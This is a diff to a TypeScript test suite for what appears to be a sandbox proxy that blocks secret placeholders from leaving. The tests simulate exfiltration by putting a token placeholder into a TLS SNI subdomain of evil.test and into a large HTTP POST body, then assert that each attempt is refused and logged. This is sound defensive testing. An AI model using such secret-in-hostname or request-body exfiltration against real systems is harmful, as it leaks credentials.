@@ -228,6 +228,12 @@ test("a placeholder in an SNI closes the connection and is recorded", async () =
   });
   assert.notEqual(err, "connected");
   assert.deepEqual(lastEvent().detail, { secret: "API", dest: `${PH.API.toLowerCase()}.evil.test`, where: "sni" });
+  // A placeholder with characters a host name may not have (ghp_...): still found, though the name is invalid.
+  await new Promise<void>((resolve) => {
+    const s = tlsConnect({ host: "127.0.0.1", port: ports.tls, servername: `${PH.GH}.evil.test`, ca: sandboxCa.certPem }, () => resolve());
+    s.on("error", () => resolve());
+  });
+  assert.deepEqual(lastEvent().detail, { secret: "GH", dest: `${PH.GH}.evil.test`, where: "sni" });
 });
 
 test("plain HTTP: refused to a bound host, and with a placeholder anywhere (header, URL, body) to any host", async () => {
@@ -242,7 +248,7 @@ test("plain HTTP: refused to a bound host, and with a placeholder anywhere (head
   assert.equal(r.status, 403);
   assert.equal(lastEvent().detail.where, "url");
   assert.equal(seen.length, n);
-  r = await viaHttp("other.test", { method: "POST", body: "a".repeat(100_000) + PH.GH });
+  r = await viaHttp("other.test", { method: "POST", body: "a".repeat(200_000) + PH.GH, headers: { expect: "100-continue" } });
   assert.equal(r.status, 403);
   assert.deepEqual(lastEvent().detail, { secret: "GH", dest: "other.test", where: "body" });
   assert.ok(!(last()?.body ?? "").includes(PH.GH), "the placeholder never went out");
